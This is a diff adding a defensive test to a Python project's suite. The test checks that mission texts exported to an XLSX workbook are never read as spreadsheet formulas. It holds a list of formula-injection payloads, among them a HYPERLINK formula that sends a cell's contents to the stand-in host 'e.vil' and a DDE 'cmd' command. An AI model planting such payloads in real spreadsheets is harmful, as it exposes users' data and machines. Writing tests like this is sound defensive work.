@@ -170,3 +170,64 @@ def test_a_lock_held_elsewhere_is_waited_for_a_while_then_named(example_in_cwd, 
         holder.wait()
     assert fcntl  # the lock is released with the process
     assert pmp("log", "ressourcerie-du-val", "R1", "--progress", "90", "--date", "2026-11-26").exit_code == 0
+
+
+# spreadsheet formula injection ---------------------------------------------------------------------
+
+HOSTILE = ['=HYPERLINK("https://e.vil/?d="&A5,"Sophie")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,2)"]
+
+
+def _hostile_mission():
+    import dataclasses
+
+    from conftest import EXAMPLE
+
+    from pamplemousse.read.load import load_mission
+
+    base, _ = load_mission(EXAMPLE)
+    recs = list(base.recommendations)
+    ind = recs[0].indicators[0].model_copy(update={"name": HOSTILE[3], "unit": HOSTILE[4]})
+    recs[0] = recs[0].model_copy(update={"title": HOSTILE[0], "owner": HOSTILE[1], "indicators": [ind]})
+    journal = [
+        e.model_copy(update={"note": HOSTILE[2]}) if e.recommendation == recs[0].id
+        else e.model_copy(update={"committee": HOSTILE[1], "decisions": [HOSTILE[0]]}) if e.committee else e
+        for e in base.journal
+    ]
+    meta = base.meta.model_copy(update={"client": base.meta.client.model_copy(update={"name": HOSTILE[0]})})
+    return dataclasses.replace(base, recommendations=recs, journal=journal, meta=meta)
+
+
+def test_no_text_of_a_mission_becomes_a_formula_in_the_workbook(tmp_path):
+    import io
+    import subprocess
+
+    from openpyxl import load_workbook
+
+    from pamplemousse.outputs.xlsx import xlsx_bytes
+    from pamplemousse.plan.state import state_on
+
+    mission = _hostile_mission()
+    data = xlsx_bytes(mission, state_on(mission, __import__("datetime").date(2026, 11, 26)), "fr")
+    wb = load_workbook(io.BytesIO(data))
+    texts, formulas = set(), []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    formulas.append(cell.value)
+                elif isinstance(cell.value, str):
+                    texts.add(cell.value)
+                    if cell.value.startswith(("=", "+", "-", "@")):
+                        assert cell.quotePrefix, (ws.title, cell.coordinate)
+    assert formulas and all(f.startswith("=IF(AND(") for f in formulas)  # pmp's own « days late » only
+    assert {HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]} <= texts
+    # and LibreOffice, opening it, shows the texts and computes nothing from them
+    book = tmp_path / "plan.xlsx"
+    book.write_bytes(data)
+    done = subprocess.run(
+        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to", "csv",
+         "--outdir", str(tmp_path), str(book)], capture_output=True, timeout=120,
+    )
+    assert done.returncode == 0, done.stderr
+    csv = (tmp_path / "plan.csv").read_text(encoding="utf-8", errors="replace")
+    assert 'HYPERLINK(""https://e.vil/?d=""&A5,""Sophie"")' in csv and "cmd|' /C calc'!A0" in csv
